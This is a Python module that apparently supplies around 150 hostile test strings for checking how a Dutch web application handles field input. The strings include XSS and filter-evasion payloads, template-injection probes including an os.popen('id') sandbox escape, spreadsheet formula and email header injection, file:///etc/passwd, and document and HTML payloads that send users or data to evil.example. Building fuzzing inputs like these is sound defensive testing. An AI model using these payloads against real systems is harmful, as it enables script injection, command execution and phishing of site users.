"""What an attacker would put in a field: 150 strings, each with a reason to be tried."""

from __future__ import annotations

from itertools import product

MARK = "__hz_ran"
"""What a script of ours would set in the window."""
SUM, RESULT = "7919*7907", "62615533"
"""What a template engine would work out, and what it would then write."""
_RUN = f"window.{MARK}=1;alert(1)"

_SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"<script/x>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script><![CDATA[",
    f"<script\n>{_RUN}</script\n>",
    f"<script src=data:text/javascript,{_RUN}></script>",
    f"<script type=module>{_RUN}</script>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<math><mtext><script>{_RUN}</script></mtext></math>",
    f'<noscript><p title="</noscript><script>{_RUN}</script>">',
    f"<template><script>{_RUN}</script></template>",
    f"<xmp><script>{_RUN}</script></xmp>",
    f"<\x00script>{_RUN}</script>",
    f"\ufeff<script>{_RUN}</script>",
    f"＜script＞{_RUN}＜/script＞",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
)
_EVENTS = tuple(
    f"<{tag} {event}={_RUN}>"
    for tag, event in (
        ("img src=x", "onerror"),
        ("img/src=x", "onerror"),
        ("svg", "onload"),
        ("svg/", "onload"),
        ("body", "onload"),
        ("iframe src=javascript:0", "onload"),
        ("input autofocus", "onfocus"),
        ("details open", "ontoggle"),
        ("video src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("marquee", "onstart"),
        ("a id=x tabindex=1", "onfocus"),
        ("style", "onload"),
        ("link rel=stylesheet href=x", "onerror"),
        ("object data=x", "onerror"),
        ("p style=animation-name:x", "onanimationstart"),
        ("select autofocus", "onfocus"),
        ("math href=javascript:1", "onclick"),
    )
)
_QUOTES = tuple(
    f"{quote}{middle}{_RUN}{end}"
    for quote, (middle, end) in product(
        ('"', "'", "`"),
        (
            (" onmouseover=", " x="),
            ("><img src=x onerror=", ">"),
            (" autofocus onfocus=", " "),
            (";", "//"),
        ),
    )
)
_ADDRESSES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"java\nscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"javascript://tweedekamer.nl/%0a{_RUN}",
    f"vbscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"[klik](javascript:{_RUN})",
    f"[klik](data:text/html,<script>{_RUN}</script>)",
    f"<javascript:{_RUN}>",
    f'![x](x" onerror="{_RUN})',
    "file:///etc/passwd",
    "\\\\evil.example\\share\\x",
    "//evil.example/x",
    "http://evil.example/<x>",
    "https:evil",
    "mailto:a@b.example?bcc=alle@b.example&body=x",
    "http://[::1",
    "https://tweedekamer.nl@evil.example/",
)
_TEMPLATES = (
    f"{{{{ {SUM} }}}}",
    f"{{{{{SUM}}}}}",
    f"{{% print({SUM}) %}}",
    f"{{# {SUM} #}}",
    f"${{{SUM}}}",
    f"#{{{SUM}}}",
    f"<%= {SUM} %>",
    f"*{{{SUM}}}",
    f"@({SUM})",
    f"[[{SUM}]]",
    f"[%= {SUM} %]",
    f"{{{{ ''.__class__.__mro__[1].__subclasses__() }}}} {SUM}",
    f"{{{{ config.items() }}}} {{{{ {SUM} }}}}",
    f"{{{{ self._TemplateReference__context }}}} {SUM}",
    f"{{{{ cycler.__init__.__globals__.os.popen('id').read() }}}} {SUM}",
    f"{{% for x in [].__class__.__base__.__subclasses__() %}}{{{{x}}}}{{% endfor %}} {SUM}",
    f"{{% raw %}}{{{{ {SUM} }}}}{{% endraw %}}",
    f"{{{{ '{{{{ {SUM} }}}}' }}}}",
    "%s %(x)s %d %n %x",
    "{0} {x} {0.__class__} {x!r}",
    f"$({SUM}) `{SUM}` $(({SUM}))",
    f"=cmd|'/C calc'!A0 {SUM}",
    f"={SUM}",
    f"+{SUM}",
    f"-{SUM}",
    f"@SUM({SUM})",
)
_HEADERS = (
    "x\r\nBcc: alle@evil.example",
    "x\nBcc: alle@evil.example",
    "x\rBcc: alle@evil.example",
    "x\r\n\r\n<html>een andere mail",
    "x\u2028Bcc: alle@evil.example",
    "x\x85Bcc: alle@evil.example",
    "x\x0bBcc: alle@evil.example",
    "x\x0cBcc: alle@evil.example",
    "x\x1cBcc: alle@evil.example",
    "x%0d%0aBcc: alle@evil.example",
    "=?utf-8?q?x=0d=0aBcc=3a_alle=40evil=2eexample?=",
    "=?utf-8?b?QmNjOiBhbGxlQGV2aWwuZXhhbXBsZQ==?=",
    "x\r\n Bcc: alle@evil.example",
    "x\r\nContent-Type: text/html\r\n\r\n<script>",
    "x\r\n--hz-0000\r\nContent-Type: text/html",
    '"><x@evil.example>, "y',
    "x\r\n.\r\nMAIL FROM:<x@evil.example>",
)
_DOCUMENTS = (
    f"</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows {SUM}</w:instrText></w:r>",
    '{ HYPERLINK "javascript:1" }',
    '{ INCLUDETEXT "c:\\\\x" }',
    "<!DOCTYPE x [<!ENTITY e 'x'>]>&e;",
    "&xxe; &lol9; &#x0; &#xfffe;",
    "<?xml-stylesheet href='x'?>",
    "<?php echo 1 ?>",
    ") /OpenAction << /S /JavaScript /JS (app.alert(1)) >> (",
    "(\\) /JS (x",
    "%PDF-1.7 endobj",
    "</body></html><h1>Nep</h1>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<img src=https://evil.example/pixel>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "}</style> body{display:none} @import 'x';",
    "<form action=https://evil.example/><button>Aanmelden",
    "<iframe src=https://evil.example/>",
)
_SIGNS = (
    "\x00\x01\x02 nul",
    "\x1eagenda\x1e",
    "\x1di-kop\x1dx\x1f",
    "\u202egnp.exe",
    "\u2066links\u2069",
    "a\u0300\u0301\u0302\u0303" * 20,
    "\U0001f600",
    "\ufffe\uffff",
    "Z\u200bW\u200dN\u200c",
    "💥👩‍👩‍👧‍👦",
    "٣٤٥ مرحبا",
    "w" * 400,
)


def strings() -> tuple[str, ...]:
    """Return all of them, each once."""
    found = (
        *_SCRIPTS,
        *_EVENTS,
        *_QUOTES,
        *_ADDRESSES,
        *_TEMPLATES,
        *_HEADERS,
        *_DOCUMENTS,
        *_SIGNS,
    )
    return tuple(dict.fromkeys(found))
